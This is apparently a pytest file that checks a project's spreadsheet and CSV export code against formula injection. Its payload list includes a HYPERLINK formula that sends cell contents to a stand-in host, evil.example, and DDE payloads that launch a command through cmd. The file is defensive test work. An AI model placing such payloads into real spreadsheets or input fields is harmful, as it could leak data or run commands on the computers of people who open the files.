"""No text typed into Adopt comes out of an export as a live formula."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from adopt.core.spreadsheets import SafeCsvWriter, add_sheet, workbook_bytes

# OWASP's CSV injection payloads, and the two the probe found in real exports.
PAYLOADS = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_keeps_formula_like_text_as_text(payload):
    book = Workbook()
    add_sheet(book, "Rows", ["Name", "Amount"], [[payload, Decimal("12.50")]], money=[1], first=True)
    content = workbook_bytes(book)
    assert formula_cells(content) == []
    cell = load_workbook(io.BytesIO(content))["Rows"]["A2"]
    assert cell.value.strip() == payload.strip()  # the text itself is kept, as text
    assert load_workbook(io.BytesIO(content))["Rows"]["B2"].value == 12.5


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_prefixes_formula_like_text_with_an_apostrophe(payload):
    stream = io.StringIO()
    SafeCsvWriter(stream).writerow([payload, "Ribble Plastics Ltd", 3])
    first = stream.getvalue().lstrip('"')
    assert first.startswith("'")
    assert "Ribble Plastics Ltd,3" in stream.getvalue()
